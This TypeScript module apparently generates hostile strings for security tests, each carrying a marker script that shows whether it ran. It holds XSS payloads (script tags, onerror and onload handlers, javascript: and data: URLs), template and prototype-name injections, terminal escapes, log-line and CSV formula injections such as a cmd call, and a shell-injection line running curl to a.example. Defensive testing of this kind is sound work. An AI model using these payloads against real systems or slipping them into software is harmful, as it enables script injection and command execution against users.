/** What makes one hostile text: how it calls the marker, and a choice of the seeded generator. */
export interface Make {
  /** JavaScript that tells the watch that this text ran. */
  readonly run: string;
  readonly pick: <T>(from: readonly T[]) => T;
}

type Kind = (make: Make) => string;

/** Ways out of the place a text may stand in, or none. */
const WAYS_OUT = ['', '', '">', "'>", '</title>', '</textarea>', '</style>', '--></p>', ']]>', '"/>'];
/** What may stand between the name of a tag and its attribute. */
const GAPS = [' ', '/', '\t', '\n', '\f'];
const BIDI = ['\u202e', '\u202d', '\u2066', '\u2067', '\u200f', '\u061c'];
const UNSEEN = ['\u200b', '\u200d', '\ufeff', '\u00ad', '\u2060', '\u180e', '\u115f', '\u3164', '\u{e0041}', '\ufe0f'];

/** Marks that run by themselves in a page that lets them in. */
const RUNNING: Readonly<Record<string, Kind>> = {
  script: ({ run, pick }) => `${pick(WAYS_OUT)}<${pick(['script', 'ScRiPt', 'SCRIPT'])}>${run}</script>`,
  'script of its own type': ({ run, pick }) => `<script${pick(GAPS)}type=module>${run}</script>`,
  image: ({ run, pick }) => `${pick(WAYS_OUT)}<img${pick(GAPS)}src=${pick(['x:', '//'])} onerror=${run}>`,
  svg: ({ run, pick }) => `${pick(WAYS_OUT)}<svg${pick(GAPS)}onload=${run}>`,
  'script in svg': ({ run }) => `<svg><script>${run}</script></svg>`,
  details: ({ run, pick }) => `<details${pick(GAPS)}open ontoggle=${run}>`,
  'script in math': ({ run }) => `<math><mtext></p><img src=x: onerror="${run}"></mtext></math>`,
  focus: ({ run }) => `<input autofocus onfocus="${run}">`,
  entities: ({ run }) => `<img src=x: onerror="&#95;&#x5f;${run.slice(2)}">`,
  frame: ({ run }) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  'frame of a javascript: address': ({ run }) => `<iframe src="javascript:parent.${run}"></iframe>`,
};

/** Marks that wait for a click, another reader, or a careless program. */
const WAITING: Readonly<Record<string, Kind>> = {
  'javascript: address': ({ run, pick }) =>
    `${pick(['javascript:', 'JaVaScRiPt:', 'java\tscript:', '\u0001javascript:'])}${run}`,
  'javascript: link': ({ run }) => `<a href="javascript:${run}">look</a>`,
  'data: address': ({ run, pick }) => `data:text/html${pick([',', ';charset=utf-8,'])}<script>${run}</script>`,
  'form of its own': ({ run }) => `<form action=javascript:${run}><button>Save now</button></form>`,
  'base, refresh': ({ run }) => `<base href=//a.example/><meta http-equiv=refresh content="0;url=javascript:${run}">`,
  'end of the script it stands in': ({ run, pick }) =>
    `</script${pick(['>', ' >', '\n>', '/>'])}<script>${run}</script>`,
  'way out of a string': ({ run, pick }) => `${pick(["'", '"', '`', '\\"', "\\'"])};${run};//`,
  'line separators': ({ run, pick }) => `${pick(['\u2028', '\u2029', '\u0085'])}${run}${pick(['\u2028', '\u2029'])}//`,
  'comment and CDATA': ({ run, pick }) => `${pick(['<!--', '<![CDATA[', '<!--><script>'])}${run}`,
  'flight of React': ({ run, pick }) =>
    `${pick(['$', '$L', '$@', '$undefined', '1:["$","script",null,{"children":"'])}${run}"}]`,
  'chunk of a page': ({ run }) => `"]);self.__next_f.push([1,"</script><script>${run}</script>`,
  template: ({ run, pick }) =>
    pick([`{{constructor.constructor('${run}')()}}`, `\${${run}}`, `<%= ${run} %>`, `#{${run}}`]),
  right_to_left: ({ run, pick }) => `saved${pick(BIDI)}${run}${pick(['', '\u202c', '\u2069'])}`,
  unseen: ({ run, pick }) => `<scr${pick(UNSEEN)}ipt>${pick(UNSEEN)}${run}</script>`,
  'wide forms': ({ run, pick }) => `${pick(['＜script＞', '‹script›', '\ufe64script\ufe65'])}${run}＜/script＞`,
  'escapes of a terminal': ({ run, pick }) =>
    `${pick(['\u001b[2J\u001b[31m', '\u009b31m', '\u001b]0;', '\u009d0;', '\u001bP'])}${run}${pick(['\u0007', '\u009c', '\u001b\\'])}`,
  'control characters': ({ run, pick }) => `ok${pick(['\b\b', '\u0000', '\r', '\u007f', '\u000b', '\u0085'])}${run}`,
  'line of its own': ({ run, pick }) => `ok${pick(['\n', '\r\n', '\r'])}{"level":"info","msg":"${run}"}`,
  'event of its own': ({ run, pick }) => `ok${pick(['\n\n', '\r\r'])}event: pulse${pick(['\n', '\r'])}data: ${run}`,
  formula: ({ run, pick }) =>
    `${pick(['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '\u200b=', ' ='])}HYPERLINK("javascript:${run}")`,
  'cell and record of its own': ({ run, pick }) => `a",=1+1${pick(['\r\n', '\n', ','])}"=cmd|'/C ${run}'!A0`,
  Markdown: ({ run, pick }) =>
    `${pick(['[look](', '![x](', '<', '[x]: '])}javascript:${run}${pick([')', '>', ' "x")'])}`,
  'Markdown of its own line': ({ run, pick }) =>
    `ok\n${pick(['# ', '```\n', '> ', '| a |\n|'])}<img src=x onerror=${run}>`,
  'mention in a chat': ({ run, pick }) => `${pick(['@everyone', '<!channel>', '<@U1>', '@here'])} ${run}`,
  'name in a prototype': ({ run, pick }) =>
    `${pick(['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'])}[${run}]`,
  'lone half of a pair': ({ run, pick }) => `${pick(['\ud83d', '\udc00'])}${run}`,
  'shell words': ({ run, pick }) => `${pick(['$(', '`', "';", '"; ', '\n', '| '])}curl a.example/${run}`,
};

/** Every kind of hostile text, those that run by themselves first. */
export const KINDS: readonly { readonly name: string; readonly make: Kind; readonly runs: boolean }[] = [
  ...Object.entries(RUNNING).map(([name, make]) => ({ name, make, runs: true })),
  ...Object.entries(WAITING).map(([name, make]) => ({ name, make, runs: false })),
];
